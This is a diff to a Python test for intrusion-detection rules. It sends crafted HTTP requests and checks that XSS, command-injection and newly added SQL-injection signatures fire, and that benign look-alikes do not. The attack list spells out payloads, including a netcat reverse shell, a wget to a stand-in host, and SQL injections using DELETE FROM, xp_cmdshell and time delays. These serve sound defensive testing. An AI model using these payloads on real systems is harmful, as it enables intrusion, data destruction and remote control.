@@ -1,9 +1,10 @@
 #!/usr/bin/python3
-"""The shipped XSS and OS command-injection rules (rules/spectre.rules, sids
-9000019-9000026) on generated HTTP requests: each attack form fires the rule
-meant for it; benign look-alikes (the words script, cat, id, ping, sleep,
-javascript in ordinary URIs and form bodies, matrix parameters, font lists
-with '|') fire none of them.
+"""The shipped XSS, OS command-injection and SQL injection rules
+(rules/spectre.rules, sids 9000005 and 9000019-9000031) on generated HTTP
+requests: each attack form fires the rule meant for it; benign look-alikes
+(the words script, cat, id, ping, sleep, javascript, select, drop, or in
+ordinary URIs and form bodies, names with apostrophes, matrix parameters,
+font lists with '|') fire none of them.
 
   test_web_rules.py            (binary from $SPECTRE_DP or build/dataplane/spectre-dp)
 
@@ -24,6 +25,7 @@ from pcaplib import ether, ip_packet, l4_tcp, write_pcap  # noqa: E402
 
 SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01
 XSS, CMD = range(9000019, 9000024), range(9000024, 9000027)
+SQLI = [9000005] + list(range(9000027, 9000032))
 
 # (method, uri, body, sids that must fire: a set, any of which counts)
 ATTACKS = [
@@ -43,6 +45,15 @@ ATTACKS = [
     ("GET", "/diag?host=10.0.0.1%7Cnc%20-e%20/bin/sh%2010.0.0.9%204444", b"", {9000025}),
     ("POST", "/diag", b"host=10.0.0.1%3Bwget+http%3A%2F%2Fe.example%2Fx&go=1", {9000026}),
     ("POST", "/diag", b"host=10.0.0.1;sleep 5&go=1", {9000026}),
+    ("GET", "/item?id=7%20union%20all%20select%20null,version()--", b"", {9000005}),
+    ("GET", "/item?id=7'%20or%20'x'='x", b"", {9000027}),
+    ("GET", "/login?u=bob'%20OR%201=1%20--%20", b"", {9000027}),
+    ("GET", "/login?u=admin'%23&p=x", b"", {9000028}),
+    ("GET", "/login?u=admin'/*&p=*/x", b"", {9000028}),
+    ("GET", "/item?id=7;%20DELETE%20FROM%20orders%20--", b"", {9000029}),
+    ("GET", "/item?id=7%3Bexec%20xp_cmdshell%20'dir'", b"", {9000029}),
+    ("GET", "/item?id=7'%20AND%20pg_sleep(10)--", b"", {9000030}),
+    ("GET", "/item?id=7);WAITFOR%20DELAY%20'0:0:5'--", b"", {9000031}),
 ]
 BENIGN = [
     ("GET", "/category?cat=5&id=7", b""),
@@ -62,6 +73,14 @@ BENIGN = [
     ("POST", "/comment", b"text=I+like+cats%3B+they+are+nice.+Bring+snacks%3B+ping+me+later%3B+sleep+is+good"),
     ("POST", "/login", b"user=cathy&pass=s3cr3t%3Bx&remember=1"),
     ("POST", "/api", b'{"cmd": "list", "ids": [1, 2, 3], "script": "report"}'),
+    ("GET", "/books?author=O'Reilly&sort=title", b""),
+    ("GET", "/search?q=rock+'n'+roll+or+jazz", b""),
+    ("GET", "/search?q=select+a+drop+down+menu", b""),
+    ("GET", "/search?q=how+to+sleep+better;+tips", b""),
+    ("GET", "/docs/sql/union-and-select-tutorial.html", b""),
+    ("GET", "/search?q=it's+a+match+--+nice", b""),
+    ("GET", "/wiki/Sleep_(1967_film)", b""),
+    ("GET", "/cal?view=week;update=1", b""),
 ]
 
 
@@ -113,14 +132,14 @@ def main():
             e = json.loads(line)
             if e.get("event_type") == "alert":
                 fired.setdefault(e["src_port"] - 20000, set()).add(e["alert"]["signature_id"])
-    ours = set(XSS) | set(CMD)
+    ours = set(XSS) | set(CMD) | set(SQLI)
     for i, (m, u, b, want) in enumerate(cases):
         got = fired.get(i, set()) & ours
         what = "%s %s%s" % (m, u, (" body " + b.decode(errors="replace")) if b else "")
         if want:
             check(want <= got, "attack fires %s: %s" % (sorted(want), what), "fired %s" % sorted(got))
         else:
-            check(not got, "benign look-alike fires none of 9000019-9000026: %s" % what, "fired %s" % sorted(got))
+            check(not got, "benign look-alike fires none of the web attack rules: %s" % what, "fired %s" % sorted(got))
     check.cleanup(tmp)
     return check.summary()
 
